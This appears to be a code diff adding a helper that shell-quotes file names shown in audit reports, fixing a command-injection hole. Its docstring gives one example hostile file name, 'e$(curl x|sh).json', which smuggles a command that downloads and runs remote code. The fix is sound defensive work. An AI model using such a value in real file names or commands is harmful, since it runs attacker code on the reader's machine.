@@ -120,3 +120,13 @@ def quoted_name(name: object, at_most: int = MAX_QUOTED_NAME) -> str:
 def with_article(noun: str) -> str:
     """``a NOUN`` or ``an NOUN``, as a message names what a plugin gave ("an int", "a generator")."""
     return f"{'an' if noun[:1].lower() in ('a', 'e', 'i', 'o', 'u') else 'a'} {noun}"
+
+
+def shell_word(text: str) -> str:
+    """``text`` as one word of a shell command a report tells its reader to run (``sha256sum NAME``,
+    ``lbaudit verify NAME``): quoted when it holds anything a shell reads as syntax.  The evidence's
+    file name is chosen by whoever hands it over: ``e$(curl x|sh).json`` pasted from the HTML, PDF or
+    HDF ran that command on the auditor's machine.  A plain name stays as it is."""
+    import shlex
+
+    return shlex.quote(text)
